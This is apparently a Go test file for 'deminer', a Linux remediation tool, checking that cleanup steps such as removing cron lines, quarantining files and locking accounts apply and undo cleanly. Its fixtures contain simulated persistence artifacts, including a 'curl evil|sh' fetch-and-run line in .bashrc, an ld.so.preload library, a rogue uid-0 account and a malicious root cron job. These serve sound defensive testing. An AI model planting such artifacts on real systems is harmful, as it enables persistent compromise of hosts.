//go:build linux

package remedy_test

import (
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"os"
	"strings"
	"testing"

	"github.com/deminer/deminer"
	"golang.org/x/sys/unix"
)

const crontab = "# m h dom mon dow user command\n17 * * * * root run-parts /etc/cron.hourly\n*/5 * * * * root /tmp/.x/sysetmd\n0 3 * * * www backup\n"

const evil = "*/5 * * * * root /tmp/.x/sysetmd"

// fileCase is one file verb on one host: do, look, undo, equal.
type fileCase struct {
	name  string
	setup func(t *testing.T, w *world)
	steps []deminer.Step
	check func(t *testing.T, w *world)
}

func fileCases() []fileCase {
	return []fileCase{
		{"cut-line", func(t *testing.T, w *world) {
			w.write(t, "/etc/crontab", crontab, 0o640)
			os.Chown(w.root+"/etc/crontab", 12, 34)
			must(t, unix.Setxattr(w.root+"/etc/crontab", "user.note", []byte("x\x00y"), 0))
			must(t, unix.Setxattr(w.root+"/etc/crontab", "system.posix_acl_access", acl(), 0))
		}, []deminer.Step{do(deminer.VerbCutLine, line("/etc/crontab", evil))}, func(t *testing.T, w *world) {
			if got, want := w.text(t, "/etc/crontab"), strings.Replace(crontab, evil+"\n", "", 1); got != want {
				t.Errorf("crontab is %q, want %q", got, want)
			}
		}},
		{"cut-line/immutable", func(t *testing.T, w *world) {
			w.write(t, "/etc/crontab", crontab, 0o600)
			setFlags(t, w.root+"/etc/crontab", 0x30)
			setFlags(t, w.root+"/etc", 0x10)
		}, []deminer.Step{do(deminer.VerbCutLine, line("/etc/crontab", evil))}, func(t *testing.T, w *world) {
			if got := w.text(t, "/etc/crontab"); strings.Contains(got, "sysetmd") {
				t.Errorf("line is still there: %q", got)
			}
			for _, p := range []string{"/etc/crontab", "/etc"} {
				if d, _ := describe(w.root + p); !strings.Contains(d, "flags 30") && !strings.Contains(d, "flags 10") {
					t.Errorf("flags of %s were not put back: %s", p, d)
				}
			}
		}},
		{"cut-line/drop-empty", func(t *testing.T, w *world) {
			w.write(t, "/etc/ld.so.preload", "/usr/lib/libevil.so\n\n", 0o644)
		}, []deminer.Step{do(deminer.VerbCutLine, line("/etc/ld.so.preload", "/usr/lib/libevil.so"), "drop-empty", "yes")}, gone("/etc/ld.so.preload")},
		{"cut-line/last-without-newline", func(t *testing.T, w *world) {
			w.write(t, "/root/.bashrc", "alias l=ls\ncurl evil|sh", 0o644)
		}, []deminer.Step{do(deminer.VerbCutLine, line("/root/.bashrc", "curl evil|sh"))}, holds("/root/.bashrc", "alias l=ls\n")},
		{"cut-line/several-lines-and-copies", func(t *testing.T, w *world) {
			w.write(t, "/f", "a\nx\ny\nb\nx\ny\nx\ny\nc\n", 0o644)
		}, []deminer.Step{do(deminer.VerbCutLine, line("/f", "x\ny"))}, holds("/f", "a\nb\nc\n")},
		{"cut-line/through-a-link", func(t *testing.T, w *world) {
			w.write(t, "/srv/dot/bashrc", "a\nevil\n", 0o644)
			w.write(t, "/root/x", "", 0o644)
			must(t, os.Symlink("/srv/dot/bashrc", w.root+"/root/.bashrc"))
		}, []deminer.Step{do(deminer.VerbCutLine, line("/root/.bashrc", "evil"))}, holds("/srv/dot/bashrc", "a\n")},
		{"edit-line", func(t *testing.T, w *world) {
			w.write(t, "/etc/resolv.conf", "nameserver 1.1.1.1\nnameserver 6.6.6.6\n", 0o644)
		}, []deminer.Step{do(deminer.VerbEditLine, line("/etc/resolv.conf", "nameserver 6.6.6.6"), "new", "nameserver 9.9.9.9")}, holds("/etc/resolv.conf", "nameserver 1.1.1.1\nnameserver 9.9.9.9\n")},
		{"drop-file", func(t *testing.T, w *world) {
			w.write(t, "/etc/cron.d/x", "bad", 0o4755)
			os.Chown(w.root+"/etc/cron.d/x", 7, 8)
			must(t, os.Chmod(w.root+"/etc/cron.d/x", 0o755|os.ModeSetuid))
			setFlags(t, w.root+"/etc/cron.d/x", 0x10)
			setFlags(t, w.root+"/etc/cron.d", 0x20)
		}, []deminer.Step{do(deminer.VerbDropFile, file("/etc/cron.d/x"))}, gone("/etc/cron.d/x")},
		{"drop-file/link", func(t *testing.T, w *world) {
			w.write(t, "/etc/y", "y", 0o644)
			must(t, os.Symlink("/nowhere/\xff\n", w.root+"/etc/x"))
			os.Lchown(w.root+"/etc/x", 3, 4)
		}, []deminer.Step{do(deminer.VerbDropFile, file("/etc/x"))}, gone("/etc/x")},
		{"quarantine/tree", func(t *testing.T, w *world) {
			w.write(t, "/tmp/.x/a/b/miner", "\x7fELF", 0o755)
			w.write(t, "/tmp/.x/c\n\xfe", "conf", 0o600)
			must(t, os.Symlink("a", w.root+"/tmp/.x/l"))
			must(t, unix.Mkfifo(w.root+"/tmp/.x/p", 0o620))
			must(t, os.Chmod(w.root+"/tmp/.x/a", 0o2750))
			setFlags(t, w.root+"/tmp/.x/a/b/miner", 0x10)
			setFlags(t, w.root+"/tmp/.x/a", 0x10)
			setFlags(t, w.root+"/tmp/.x", 0x20)
		}, []deminer.Step{do(deminer.VerbQuarantine, file("/tmp/.x"))}, gone("/tmp/.x")},
		{"quarantine/odd-name", func(t *testing.T, w *world) { w.write(t, "/tmp/ \x1b[2J\xff", "x", 0o711) },
			[]deminer.Step{do(deminer.VerbQuarantine, file("/tmp/ \x1b[2J\xff"))}, gone("/tmp/ \x1b[2J\xff")},
		{"mask-unit", func(t *testing.T, w *world) { w.write(t, "/etc/systemd/system/other.service", "[Unit]", 0o644) },
			[]deminer.Step{do(deminer.VerbMaskUnit, deminer.Artifact{Kind: deminer.KindUnit, Name: "bad.service"})}, func(t *testing.T, w *world) {
				if to, _ := os.Readlink(w.root + "/etc/systemd/system/bad.service"); to != "/dev/null" {
					t.Errorf("mask leads to %q", to)
				}
			}},
		{"clear-flag", func(t *testing.T, w *world) {
			w.write(t, "/etc/passwd", "root", 0o644)
			setFlags(t, w.root+"/etc/passwd", 0x30)
		}, []deminer.Step{do(deminer.VerbClearFlag, file("/etc/passwd"), "flags", "i")}, func(t *testing.T, w *world) {
			if d, _ := describe(w.root + "/etc/passwd"); !strings.Contains(d, "flags 20") {
				t.Errorf("want only +a left: %s", d)
			}
		}},
		{"chmod", func(t *testing.T, w *world) { w.write(t, "/bin/bash", "bash", 0o755|os.ModeSetuid) },
			[]deminer.Step{do(deminer.VerbChmod, file("/bin/bash"), "mode", "0755")}, func(t *testing.T, w *world) {
				if d, _ := describe(w.root + "/bin/bash"); !strings.HasPrefix(d, "100755 ") {
					t.Errorf("mode: %s", d)
				}
			}},
		{"rename", func(t *testing.T, w *world) {
			w.write(t, "/usr/bin/wget.bak", "wget", 0o755)
			setFlags(t, w.root+"/usr/bin/wget.bak", 0x10)
		}, []deminer.Step{do(deminer.VerbRename, file("/usr/bin/wget.bak"), "to", "/usr/bin/wget")}, holds("/usr/bin/wget", "wget")},
		{"copy-file", func(t *testing.T, w *world) {
			w.write(t, "/etc/pam.d/sshd", "bad", 0o640)
			w.write(t, "/etc/pam.d/sshd.orig", "good", 0o600)
		}, []deminer.Step{do(deminer.VerbCopyFile, file("/etc/pam.d/sshd"), "from", "/etc/pam.d/sshd.orig")}, holds("/etc/pam.d/sshd", "good")},
		{"lock-account", accounts, []deminer.Step{do(deminer.VerbLock, deminer.Artifact{Kind: deminer.KindAccount, Name: "evil"})}, func(t *testing.T, w *world) {
			holds("/etc/shadow", "root:*:1::::::\nevil:!$6$abc:20000:0:99999:7::1:\nbob:!:1::::::\n")(t, w)
			holds("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nevil:x:0:1001::/home/evil:/usr/sbin/nologin\nbob:x:1000:1000::/home/bob:/bin/sh\n")(t, w)
		}},
		{"remove-account", accounts, []deminer.Step{do(deminer.VerbRemoveAccount, deminer.Artifact{Kind: deminer.KindAccount, Name: "evil"})}, func(t *testing.T, w *world) {
			holds("/etc/shadow", "root:*:1::::::\nbob:!:1::::::\n")(t, w)
			holds("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nbob:x:1000:1000::/home/bob:/bin/sh\n")(t, w)
			holds("/etc/group", "root:x:0:\nsudo:x:27:bob\n")(t, w)
			holds("/etc/gshadow", "sudo:*::bob\n")(t, w)
			holds("/etc/subuid", "bob:100000:65536\n")(t, w)
		}},
		{"write-file", func(t *testing.T, w *world) {
			w.write(t, "/etc/systemd/system/x.service", "old", 0o640)
			os.Chown(w.root+"/etc/systemd/system/x.service", 12, 34)
			must(t, unix.Setxattr(w.root+"/etc/systemd/system/x.service", "user.note", []byte("x"), 0))
			setFlags(t, w.root+"/etc/systemd/system/x.service", 0x10)
		}, []deminer.Step{do(deminer.VerbWriteFile, file("/etc/systemd/system/x.service"), "text", "[Unit]\n")}, func(t *testing.T, w *world) {
			holds("/etc/systemd/system/x.service", "[Unit]\n")(t, w)
			if d, _ := describe(w.root + "/etc/systemd/system/x.service"); !strings.HasPrefix(d, "100644 0:0 ") {
				t.Errorf("not root's, or another mode: %s", d)
			}
		}},
		{"write-file/new-from", func(t *testing.T, w *world) {
			w.write(t, "/home/ann/deminer", "program", 0o700)
			os.Chown(w.root+"/home/ann/deminer", 1000, 1000)
			w.write(t, "/usr/local/sbin/other", "", 0o755)
		}, []deminer.Step{do(deminer.VerbWriteFile, file("/usr/local/sbin/deminer"), "from", "/home/ann/deminer", "mode", "0755", "sha256", sum("program"))}, func(t *testing.T, w *world) {
			holds("/usr/local/sbin/deminer", "program")(t, w)
			if d, _ := describe(w.root + "/usr/local/sbin/deminer"); !strings.HasPrefix(d, "100755 0:0 ") {
				t.Errorf("not root's, or another mode: %s", d)
			}
		}},
		{"write-file/other-mode", func(t *testing.T, w *world) { w.write(t, "/etc/x", "same", 0o666) },
			[]deminer.Step{do(deminer.VerbWriteFile, file("/etc/x"), "text", "same")}, func(t *testing.T, w *world) {
				if d, _ := describe(w.root + "/etc/x"); !strings.HasPrefix(d, "100644 ") {
					t.Errorf("mode: %s", d)
				}
			}},
		{"make-dir, make-link", func(t *testing.T, w *world) { w.write(t, "/etc/systemd/system/x.service", "x", 0o644) },
			[]deminer.Step{do(deminer.VerbMakeDir, file("/etc/systemd/system/m.wants")), do(deminer.VerbMakeDir, file("/etc/systemd")),
				do(deminer.VerbMakeLink, file("/etc/systemd/system/m.wants/x.service"), "to", "/etc/systemd/system/x.service")}, func(t *testing.T, w *world) {
				if to, _ := os.Readlink(w.root + "/etc/systemd/system/m.wants/x.service"); to != "/etc/systemd/system/x.service" {
					t.Errorf("link leads to %q", to)
				}
			}},
	}
}

func sum(text string) string {
	s := sha256.Sum256([]byte(text))
	return hex.EncodeToString(s[:])
}

func accounts(t *testing.T, w *world) {
	w.write(t, "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nevil:x:0:1001::/home/evil:/bin/bash\nbob:x:1000:1000::/home/bob:/bin/sh\n", 0o644)
	w.write(t, "/etc/shadow", "root:*:1::::::\nevil:$6$abc:20000:0:99999:7:::\nbob:!:1::::::\n", 0o640)
	w.write(t, "/etc/group", "root:x:0:\nsudo:x:27:evil,bob\nevil:x:1001:\n", 0o644)
	w.write(t, "/etc/gshadow", "sudo:*:evil:evil,bob\nevil:!::\n", 0o640)
	w.write(t, "/etc/subuid", "evil:231072:65536\nbob:100000:65536\n", 0o644)
	os.Chown(w.root+"/etc/shadow", 0, 42)
}

func gone(name string) func(*testing.T, *world) {
	return func(t *testing.T, w *world) {
		if _, err := os.Lstat(w.root + name); !errors.Is(err, os.ErrNotExist) {
			t.Errorf("%q is still there: %v", name, err)
		}
	}
}

func holds(name, want string) func(*testing.T, *world) {
	return func(t *testing.T, w *world) {
		if got := w.text(t, name); got != want {
			t.Errorf("%s is %q, want %q", name, got, want)
		}
	}
}

func must(t testing.TB, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// acl is a POSIX ACL as the kernel keeps it: u::rw- u:1000:r-- g::r-- m::r-- o::---.
func acl() []byte {
	out := []byte{2, 0, 0, 0}
	for _, e := range [][3]uint32{{1, 6, ^uint32(0)}, {2, 4, 1000}, {4, 4, ^uint32(0)}, {16, 4, ^uint32(0)}, {32, 0, ^uint32(0)}} {
		out = append(out, byte(e[0]), 0, byte(e[1]), 0, byte(e[2]), byte(e[2]>>8), byte(e[2]>>16), byte(e[2]>>24))
	}
	return out
}

func TestFileVerbsThereAndBack(t *testing.T) {
	for _, c := range fileCases() {
		t.Run(c.name, func(t *testing.T) {
			w := newWorld(t, false)
			c.setup(t, w)
			w.age(t)
			before := tree(t, w.root)
			p := planOf("p1", c.steps...)
			w.mustRun(t, p)
			c.check(t, w)
			if got, want := strings.Join(tree(t, w.root), "\n"), strings.Join(before, "\n"); got == want {
				t.Error("nothing was changed")
			} else if strings.Contains(got, ".deminer-") {
				t.Errorf("left something behind:\n%s", got)
			}
			w.mustUndo(t, "p1")
			same(t, before, tree(t, w.root))
			w.mustUndo(t, "p1")
			same(t, before, tree(t, w.root))
		})
	}
}
